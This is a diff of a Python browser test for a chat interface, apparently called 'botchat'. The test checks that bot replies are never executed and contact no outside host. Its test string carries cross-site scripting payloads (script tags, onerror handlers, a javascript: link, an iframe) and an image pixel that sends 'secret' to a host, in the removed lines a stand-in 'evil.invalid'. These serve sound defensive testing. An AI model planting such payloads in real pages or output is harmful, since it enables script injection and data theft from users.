@@ -166,22 +166,21 @@ def test_a_mongodb_that_stops_in_the_middle_loses_nothing_and_the_person_is_told
 
 
 def test_what_a_bot_writes_is_never_run_and_reaches_nowhere(local_shell, serve, visitor, stub_for):
+    server = stub_for(local_shell, lambda _request: streamed([evil]))
+    elsewhere = server.url.removesuffix("/v1")
     evil = (
         "<script>document.title='run'</script><img src=x onerror=\"document.title='run'\">\n\n"
-        "![pixel](http://evil.invalid/?q=secret) [link](javascript:document.title='run')\n\n"
-        "<iframe src='http://evil.invalid/'></iframe>\n\n```\nhalf a fence"
+        f"![pixel]({elsewhere}/pixel?q=secret) [link](javascript:document.title='run')\n\n"
+        f"<iframe src='{elsewhere}/frame'></iframe>\n\n```\nhalf a fence"
     )
-    stub_for(local_shell, [streamed([evil])])
-    outside = []
-    visitor.page.on("request", lambda request: outside.append(request.url) if "evil" in request.url else None)
-    visitor.page.on("requestfailed", lambda request: outside.remove(request.url) if request.url in outside else None)
     visitor.visit(serve(local_shell).address)
     visitor.say("<b>bold</b> <img src=x onerror=\"document.title='run'\">")
     visitor.sees("half a fence")
     expect(visitor.page.get_by_role("button", name="Stop")).to_have_count(0)
+    expect(visitor.page.get_by_alt_text("pixel")).to_have_count(1)
     visitor.sees("<b>bold</b> <img src=x")
     assert visitor.page.title().endswith("· botchat")
-    assert outside == []
+    assert {request.path for request in server.requests} == {"/v1/chat/completions"}
     assert visitor.page.locator("[href^='javascript']").count() == 0
     assert visitor.page.locator("[data-testid=stChatMessage] iframe, [data-testid=stChatMessage] script").count() == 0
 
